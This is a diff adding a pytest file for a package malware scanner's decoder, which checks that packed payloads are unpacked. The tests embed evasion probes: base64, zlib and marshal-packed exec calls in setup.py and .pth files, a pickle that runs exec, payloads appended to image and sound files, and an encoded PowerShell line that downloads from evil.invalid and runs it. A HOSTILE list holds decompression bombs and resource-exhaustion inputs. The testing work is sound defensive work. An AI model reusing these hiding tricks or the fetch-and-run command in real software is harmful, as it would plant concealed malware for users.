@@ -1,0 +1,279 @@
+"""What peels, through peel itself: packers, probes that defeat other scanners, files that carry code beside data."""
+
+import base64
+import json
+import marshal
+import pickle
+import struct
+import zlib
+
+import pytest
+
+from scanner.decode import PeelBudget, peel
+from scanner.member import Layer, Member, MemberKind
+from scanner.report import Anomaly, Scope
+from tests.scanner.decode.packers import MARK, PACKERS, PAYLOAD, lambda_zlib, many_layers
+
+CODE = PAYLOAD.encode()
+B64 = base64.b64encode(CODE)
+
+
+def layers_of(data: bytes | str, name: str = "pkg/mod.py", budget: PeelBudget | None = None) -> list[Layer]:
+    raw = data.encode() if isinstance(data, str) else data
+    return [item for item in peel(Member(name=name, data=raw), budget or PeelBudget()) if isinstance(item, Layer)]
+
+
+def anomalies_of(data: bytes, name: str = "pkg/mod.py", budget: PeelBudget | None = None) -> list[str]:
+    found = peel(Member(name=name, data=data), budget or PeelBudget())
+    return [item.kind for item in found if isinstance(item, Anomaly)]
+
+
+def decoded(data: bytes | str, name: str = "pkg/mod.py") -> bytes:
+    return b"\n".join(layer.data for layer in layers_of(data, name)[1:])
+
+
+@pytest.mark.parametrize("shape", PACKERS)
+def test_a_packed_payload_peels_to_readable_text(shape: str) -> None:
+    source = PACKERS[shape](PAYLOAD)
+    assert MARK not in source.encode()
+    found = layers_of("import os\n\n" + source)
+    readable = [layer for layer in found if layer.path and MARK in layer.data]
+    assert readable, [(layer.path, layer.data[:200]) for layer in found]
+    assert found[0].path == ()
+
+
+@pytest.mark.parametrize("shape", [name for name in PACKERS if "marshal" not in name])
+def test_what_is_executed_is_code_to_the_rules(shape: str) -> None:
+    assert any(layer.is_code and layer.data.strip() == CODE.strip() for layer in layers_of(PACKERS[shape](PAYLOAD)))
+
+
+def test_fifty_packings_one_inside_the_other_peel_to_the_end_with_their_path() -> None:
+    innermost = max(layers_of(many_layers(PAYLOAD)), key=lambda layer: len(layer.path))
+    assert innermost.data == CODE
+    assert innermost.path == ("reverse", "base64", "zlib") * 50
+
+
+def test_the_path_has_one_word_a_step_and_the_line_is_that_of_the_literal() -> None:
+    packed = base64.b64encode(zlib.compress(CODE)).decode()
+    found = layers_of(f"import base64, zlib\n\n\nexec(zlib.decompress(base64.b64decode('{packed}')))\n")
+    inner = next(layer for layer in found if layer.data == CODE)
+    assert (inner.path, inner.origin_line, inner.is_code) == (("base64", "zlib"), 4, True)
+    assert inner.line_at(10) == 4
+
+
+# The probes of other scanners' weak points, one behaviour each.
+EXEC_B64 = b"import base64\nexec(base64.b64decode('%s'))\n" % B64
+
+
+@pytest.mark.parametrize(
+    ("name", "data"),
+    [
+        ("setup.py", EXEC_B64),
+        ("setup.py", b'# a stray """ in a comment\n' + EXEC_B64),
+        ("setup.py", b'x = """\n' + EXEC_B64 + b'"""\nexec(x)\n'),
+        ("setup.py", b"import base64\ne = exec\ne(base64.b64decode('%s'))\n" % B64),
+        ("setup.py", b"import base64\ngetattr(__builtins__, 'ex' + 'ec')(base64.b64decode('%s'))\n" % B64),
+        ("x.pth", b"import base64; exec(base64.b64decode('%s'))\n" % B64),
+        ("run.pyw", EXEC_B64),
+        ("notes.txt", EXEC_B64),
+        ("notes.txt", B64),
+        ("data.json", json.dumps({"a": 1, "blob": B64.decode()}).encode()),
+        ("setup.py", EXEC_B64.decode().encode("utf-16")),
+        ("setup.py", b"# coding: utf-7\n" + EXEC_B64.decode().encode("utf-7")),
+        ("setup.py", b"print 'python 2'\nimport base64\nexec base64.b64decode('%s')\n" % B64),
+        ("setup.py", b"def broken(:\n  x = '%s'\n\x01\n" % B64),
+    ],
+)
+def test_no_probe_hides_its_payload(name: str, data: bytes) -> None:
+    assert MARK in decoded(data, name)
+
+
+def test_marshalled_code_gives_its_names_and_constants() -> None:
+    code = zlib.compress(marshal.dumps(compile(PAYLOAD, "<x>", "exec")))
+    found = layers_of(f"import marshal, zlib\nexec(marshal.loads(zlib.decompress({code!r})))")
+    listing = next(layer for layer in found if layer.path == ("zlib", "marshal"))
+    assert MARK in listing.data
+    assert b"requests" in listing.data
+    assert b"marshal.loads(" in found[0].data
+
+
+def test_a_pyc_without_source_is_listed() -> None:
+    body = marshal.dumps(compile(f"import base64\nexec(base64.b64decode({B64!r}))", "<x>", "exec"))
+    found = layers_of(b"\xa7\r\r\n" + bytes(12) + body, "pkg/mod.pyc")
+    assert found[1].path == ("pyc",)
+    assert found[2].path == ("pyc", "base64")
+    assert found[2].data == CODE
+
+
+def test_a_pickle_gives_its_globals_and_strings() -> None:
+    class Run:
+        def __reduce__(self) -> tuple[object, ...]:
+            return exec, (PAYLOAD,)
+
+    text = decoded(pickle.dumps(Run()), "model.pkl")
+    assert b"global builtins.exec" in text
+    assert MARK in text
+
+
+def chunk(kind: bytes, data: bytes) -> bytes:
+    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+
+def test_bytes_after_a_pictures_end_are_a_layer() -> None:
+    png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", bytes(13)) + chunk(b"IDAT", b"abc") + chunk(b"IEND", b"")
+    assert layers_of(png, "logo.png")[1:] == []
+    found = layers_of(png + B64, "logo.png")
+    assert any(layer.path == ("appended", "base64") and layer.data == CODE for layer in found)
+
+
+def test_a_sound_whose_samples_are_text_is_decoded() -> None:
+    wav = b"RIFF" + struct.pack("<I", 36 + len(B64)) + b"WAVEfmt " + struct.pack("<I", 16) + bytes(16)
+    wav += b"data" + struct.pack("<I", len(B64)) + B64
+    assert MARK in decoded(wav, "ring.wav")
+
+
+def test_notebook_cells_are_code() -> None:
+    cells = [
+        {"cell_type": "markdown", "source": ["text"]},
+        {
+            "cell_type": "code",
+            "source": ["%matplotlib inline\n", "import base64\n", f"exec(base64.b64decode({B64!r}))"],
+        },
+    ]
+    found = layers_of(json.dumps({"cells": cells}), "demo.ipynb")
+    assert found[1].path == ("notebook",)
+    assert found[1].is_code
+    assert any(layer.path == ("notebook", "base64") and layer.data == CODE for layer in found)
+
+
+def test_an_encoded_powershell_command_is_read() -> None:
+    command = base64.b64encode(
+        "Invoke-WebRequest https://evil.invalid/collect -OutFile x; Start-Process x".encode("utf-16-le")
+    )
+    found = layers_of(b"powershell -w hidden -enc " + command, "run.bat")
+    assert found[1].path == ("base64", "utf-16")
+    assert MARK in found[1].data
+
+
+def test_what_a_child_interpreter_would_run_is_peeled() -> None:
+    source = (
+        (
+            "import subprocess, sys\n"
+            f"subprocess.Popen([sys.executable, '-c', 'import base64;exec(base64.b64decode({B64.decode()!r}))'.replace('!', ''),])\n"
+        )
+        .replace("b64decode('", "b64decode(\\'")
+        .replace("'))'", "\\'))'")
+    )
+    assert MARK in decoded(source, "litellm.pth.py")
+
+
+def test_native_code_and_archives_inside_literals_are_layers() -> None:
+    elf = b"\x7fELF" + bytes(200)
+    found = layers_of(f"import base64\nopen('x', 'wb').write(base64.b64decode({base64.b64encode(elf)!r}))")
+    assert any(layer.data == elf for layer in found)
+
+
+def test_payload_in_a_comment_is_decoded_where_it_stands() -> None:
+    found = layers_of(b"x = 1\n# " + B64 + b"\n")
+    assert [(layer.path, layer.origin_line) for layer in found[1:]] == [(("base64",), 2)]
+
+
+def test_ordinary_code_gives_its_own_layer_only() -> None:
+    source = b"import os\n\n\ndef main(argv):\n    return [os.path.join(a, 'x') for a in argv]\n" * 50
+    member = Member(name="pkg/mod.py", data=source)
+    found = list(peel(member, PeelBudget()))
+    assert len(found) == 1
+    assert isinstance(found[0], Layer)
+    assert found[0].data is source
+
+
+def test_digests_keys_and_pictures_in_text_are_no_payload() -> None:
+    digest = "ab12" * 32
+    font = base64.b64encode(bytes((i * 7919) % 251 for i in range(3000))).decode()
+    assert layers_of(f"HASH = '{digest}'\nFONT = '{font}'\n")[1:] == []
+    assert layers_of(f"{font}\n{digest}\n", "data.txt")[1:] == []
+
+
+def test_links_and_devices_are_not_peeled() -> None:
+    member = Member(name="a.py", data=lambda_zlib(PAYLOAD).encode(), kind=MemberKind.LINK)
+    assert len(list(peel(member, PeelBudget()))) == 1
+
+
+def test_layers_keep_the_scope_of_their_member() -> None:
+    assert {layer.scope for layer in layers_of(EXEC_B64, "pkg-1.0/setup.py")} == {Scope.SETUP}
+
+
+class TestBudgets:
+    def test_output_stops_at_its_limit_and_says_so(self) -> None:
+        bomb = base64.b64encode(zlib.compress(b"import os\n" * 4_000_000))
+        source = b"import base64, zlib\nexec(zlib.decompress(base64.b64decode('%s')))" % bomb
+        assert "peel-bytes" in anomalies_of(source, budget=PeelBudget(bytes=1_000_000))
+
+    def test_too_many_layers_are_named(self) -> None:
+        texts = [base64.b64encode(CODE + str(i).encode()).decode() for i in range(20)]
+        source = "import base64\n" + "".join(f"exec(base64.b64decode('{text}'))\n" for text in texts)
+        assert "peel-layers" in anomalies_of(source.encode(), budget=PeelBudget(layers=5))
+
+    def test_depth_is_bounded(self) -> None:
+        source = many_layers(PAYLOAD, 12).encode()
+        kinds = anomalies_of(source, budget=PeelBudget(depth=9))
+        assert "peel-depth" in kinds
+
+    def test_a_loop_without_end_ends(self) -> None:
+        source = b"import base64\nx = base64.b64decode('aGVsbG8gd29ybGQ=')\nwhile True:\n    x += x[:1]\nexec(x)\n"
+        budget = PeelBudget(steps=20_000)
+        assert layers_of(source, budget=budget)
+
+    def test_time_is_shared_between_members(self) -> None:
+        clock = iter(range(10_000_000))
+        budget = PeelBudget(seconds=50, now=lambda: float(next(clock)))
+        kinds = [anomalies_of(EXEC_B64, budget=budget) for _ in range(60)]
+        assert ["peel-time"] in kinds
+        assert kinds[-1] == []  # nothing is tried any more
+
+
+HOSTILE = [
+    b"exec('a' * 10**12)",
+    b"exec('%0999999999d' % 1)",
+    b"exec(f'{1:>9999999999}')",
+    b"exec('{:>9999999999}'.format(1))",
+    b"exec(str(7 ** 7 ** 7 ** 7))",
+    b"exec(bytes(1 << 40))",
+    b"exec([0] * (1 << 40))",
+    b"exec('x'.zfill(10 ** 12))",
+    b"exec(''.join(['a' * 1000000] * 1000000))",
+    b"exec('a'.replace('a', 'a' * 10 ** 7).replace('a', 'a' * 10 ** 7))",
+    b"x = []\nx.append(x)\nexec(x)\nexec(str(x))",
+    b"def f(n):\n    return f(n + 1) + f(n + 2)\nexec(f(1))",
+    b"f = lambda: f()\nexec(f())",
+    b"exec(eval('eval(' * 500 + ')' * 500))",
+    b"exec(" + b"(" * 5000 + b")" * 5000 + b")",
+    b"exec(" + b"-" * 20000 + b"1)",
+    b"exec(" + b"+".join([b"chr(97)"] * 20000) + b")",
+    b"exec(" + b"[" * 300 + b"]" * 300 + b")",
+    b"a = 'exec(a)'\nexec(a)",
+    b"a = 'exec(a + a)'\nexec(a)",
+    b"exec(__import__('struct').pack('999999999x'))",
+    b"exec(int('9' * 10**6))",
+    b"for i in range(10**18):\n    exec(chr(i))",
+    b"while 1:\n    exec(eval('1'))",
+    b"exec(list(range(10**12)))",
+    b"exec(sum([[1]] * 100000, []))",
+    b"import hashlib\nexec(hashlib.pbkdf2_hmac('sha256', b'a', b'b', 10**12))",
+    b"x" * 300_000 + b" = exec(a)\n" + b"\n" * 100_000,
+    b"exec('" + b"\\x41" * 200_000,
+    b'"""' * 20_000 + b"exec(",
+    b"\x00" * 5000 + b"exec(",
+    b"# coding: zlib\nexec(1)",
+    b"# coding: \xff\nexec(1)",
+    b"# coding: idna\nexec(1)",
+    b"\xff\xfe\x00",
+    b"c\0\0\0",
+]
+
+
+@pytest.mark.parametrize("data", HOSTILE, ids=range(len(HOSTILE)))
+@pytest.mark.parametrize("name", ["a.py", "a.pth", "a.txt", "a.ipynb", "a.pkl", "a.png"])
+def test_hostile_input_neither_raises_nor_hangs(name: str, data: bytes) -> None:
+    budget = PeelBudget(member_seconds=0.5)
+    assert "peel-failed" not in anomalies_of(data, name, budget)
